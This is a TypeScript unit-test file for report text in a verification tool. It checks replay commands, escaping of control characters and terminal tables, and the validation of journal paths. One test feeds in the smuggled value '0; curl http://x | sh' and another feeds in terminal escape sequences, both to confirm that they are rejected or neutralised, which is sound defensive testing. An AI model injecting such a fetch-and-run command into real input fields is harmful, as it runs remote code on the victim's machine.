/**
 * Texts shared by every report: the replay command reproduces the verdict (with --runs when the run had it),
 * a line from a report file stays one line with no control character, a confidence level keeps its digits;
 * text from report files reaches a terminal without control characters, and a journal's replay path is checked.
 */
import { describe, expect, it } from 'vitest';
import type { Verdict } from '../../properties/index.js';
import { journalEntryLine, journalHeaderLine, parseCalibrationJournal } from '../../src/report/calibrationJournal.js';
import { textTable } from '../../src/report/table.js';
import { describeRate, oneLine, replayCommand } from '../../src/report/verdictReport.js';

const FAILED = { id: 'forward-bound', profile: 'quick', seed: 3, control: true, runs: 1, undecided: 0, undecidedReasons: {}, figures: {}, status: 'fail', path: '0:1', counterexample: {}, message: 'm' } as Verdict;

describe('report texts', () => {
  it('replay commands carry --runs when the run had it (a control missed over 1 scenario is not missed over the budget)', () => {
    expect(replayCommand(FAILED, 'drop-inv-L', 1)).toBe('resnet-mf check --claim forward-bound --profile quick --seed 3 --runs 1 --path 0:1 --control --plant drop-inv-L');
    expect(replayCommand({ ...FAILED, status: 'pass' } as Verdict)).toBe('resnet-mf check --claim forward-bound --profile quick --seed 3 --control');
  });

  it('oneLine: line breaks shown as ⏎, ESC, BEL, DEL and C1 controls replaced, tabs kept', () => {
    expect(oneLine('a\nb\r\nc\u2028d')).toBe('a ⏎ b ⏎ c ⏎ d');
    expect(oneLine('\u001b[31mred\u0007\u007f\u009b\tok')).toBe('\uFFFD[31mred\uFFFD\uFFFD\uFFFD\tok');
  });

  it('a level of 0.99999 reads 99.999 %, not 100 %', () => {
    const fit = { exponent: -0.5, lo: -0.6, hi: -0.4, level: 0.99999, prefactor: 1, standardError: 0.01, method: 'm' };
    expect(describeRate({ quantity: 'e', size: 'M', claimed: -0.5, band: 0.1, fit, points: [], used: [8, 16], referenceError: 0 })).toContain('(99.999 %)');
  });
});

describe('text from report files on a terminal', () => {
  it('a terminal table shows control characters as U+FFFD (no escape sequence reaches the terminal)', () => {
    const table = textTable({ head: ['a'], rows: [['\u001b[2J\u001b[31mEVIL\u0007\nsecond line']] });
    expect(table).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(table).toContain('\uFFFD[2J\uFFFD[31mEVIL\uFFFD');
  });

  it('a calibrate journal whose failure path is a shell command is refused naming the field', () => {
    const settings = { profile: 'quick' as const, claims: ['forward-bound'], runs: null, plant: null, impl: null };
    const verdict = { id: 'forward-bound', profile: 'quick', seed: 1, control: false, runs: 1, undecided: 0, undecidedReasons: {}, figures: {}, status: 'fail', path: '0; curl http://x | sh', counterexample: {}, message: 'm' };
    const text = journalHeaderLine(settings) + journalEntryLine({ seed: 1, claim: 'forward-bound', seconds: 1, verdict: verdict as Verdict });
    expect(() => parseCalibrationJournal(text, 'c.jsonl', settings)).toThrow(/^c\.jsonl:2:verdict\.path="0; curl http:\/\/x \| sh" must be a fast-check replay path/);
  });
});
